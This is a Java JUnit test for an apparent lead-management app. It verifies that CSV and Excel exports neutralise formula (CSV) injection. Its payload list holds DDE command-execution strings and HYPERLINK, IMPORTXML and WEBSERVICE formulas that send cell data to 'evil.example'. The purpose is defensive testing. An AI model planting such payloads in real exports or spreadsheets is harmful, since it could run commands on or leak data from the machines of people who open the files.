package app.leadkeeper.exporting;

import static org.assertj.core.api.Assertions.assertThat;

import app.leadkeeper.AppContext;
import app.leadkeeper.core.Progress;
import app.leadkeeper.data.DataFolder;
import app.leadkeeper.leads.LeadData;
import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import java.io.IOException;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneId;
import java.util.List;
import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * CSV injection (CWE-1236) through both formats: every payload of the OWASP list and more, typed into a lead's name,
 * company and message, comes out of a CSV export neutralised by a leading apostrophe and out of an .xlsx export as a
 * text cell, with no formula element anywhere in the workbook.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class ExportInjectionTest {
    private static final Clock CLOCK = Clock.fixed(Instant.parse("2026-06-15T10:00:00Z"), ZoneId.of("Europe/Berlin"));

    /** Payloads that a spreadsheet would run: each must be neutralised. */
    static List<String> payloads() {
        return List.of(
                "=1+2",
                "=1+2+cmd|' /C calc'!A0",
                "=cmd|' /C notepad'!'A1'",
                "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for details\")",
                "=IMPORTXML(CONCAT(\"http://evil.example/?v=\", CONCATENATE(A2:E2)), \"//a\")",
                "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
                "=WEBSERVICE(\"http://evil.example\")",
                "+1+2",
                "+cmd|' /C calc'!A0",
                "-1+2",
                "-2+3+cmd|' /C calc'!A0",
                "@SUM(1+2)",
                "@SUM(1+9)*cmd|' /C calc'!A0",
                "\t=1+2",
                "\r=1+2",
                "\r\n=1+2",
                "\u0000=1+2",
                "＝1+2",
                "＋1+2",
                "－1+2",
                "＠SUM(1,2)",
                "=1+2\";=1+2",
                "=\"=1+2\"");
    }

    @TempDir
    static Path dataDir;

    @TempDir
    static Path outDir;

    private AppContext app;
    /** Each payload as the lead keeps it (the lead trims surrounding white space, as a form does). */
    private final java.util.Map<String, List<String>> stored = new java.util.HashMap<>();

    private Path csv;
    private Path xlsx;

    @BeforeAll
    void exportEveryPayloadBothWays() {
        app = AppContext.open(new DataFolder(dataDir), CLOCK);
        for (String payload : payloads()) {
            var lead = app.leads()
                    .create(LeadData.builder()
                            .firstName(payload)
                            .company(payload)
                            .message(payload)
                            .email("someone@example.com")
                            .build());
            stored.put(
                    payload,
                    List.of(
                            lead.data().firstName(),
                            lead.data().company(),
                            lead.data().message()));
        }
        csv = outDir.resolve("leads.csv");
        xlsx = outDir.resolve("leads.xlsx");
        List<LeadColumn> columns = List.of(LeadColumn.FIRST_NAME, LeadColumn.COMPANY, LeadColumn.MESSAGE);
        app.exports().exportLeads(csv, app.exports().allLeads(), columns, CsvOptions.DEFAULT, new Progress());
        app.exports().exportLeads(xlsx, app.exports().allLeads(), columns, CsvOptions.DEFAULT, new Progress());
    }

    @AfterAll
    void close() {
        app.close();
    }

    @ParameterizedTest
    @MethodSource("payloads")
    void aCsvCellStartsWithAnApostropheAndOtherwiseKeepsThePayload(String payload) throws IOException {
        CsvRecord row = csvRow(payload);

        assertThat(row.getFields())
                .containsExactlyElementsOf(
                        stored.get(payload).stream().map(v -> "'" + v).toList());
    }

    @ParameterizedTest
    @MethodSource("payloads")
    void anXlsxCellIsTextHoldingThePayload(String payload) {
        List<Row> rows = Workbooks.read(xlsx).get("Leads");
        Row row = rows.get(payloads().indexOf(payload) + 1);

        for (int c = 0; c < 3; c++) {
            assertThat(row.getCell(c).getType()).isEqualTo(CellType.STRING);
            assertThat(row.getCell(c).getText())
                    .isEqualTo(XlsxSheet.clean(stored.get(payload).get(c)));
            assertThat(row.getCell(c).getFormula()).isNull();
        }
    }

    @org.junit.jupiter.api.Test
    void theWorkbookHoldsNoFormulaAtAll() {
        String xml = Workbooks.sheetXml(xlsx);

        assertThat(xml).doesNotContain("<f>").doesNotContain("<f ").contains("t=\"inlineStr\"");
    }

    private CsvRecord csvRow(String payload) throws IOException {
        try (CsvReader<CsvRecord> reader =
                CsvReader.builder().detectBomHeader(true).ofCsvRecord(csv)) {
            return reader.stream().toList().get(payloads().indexOf(payload) + 1);
        }
    }
}
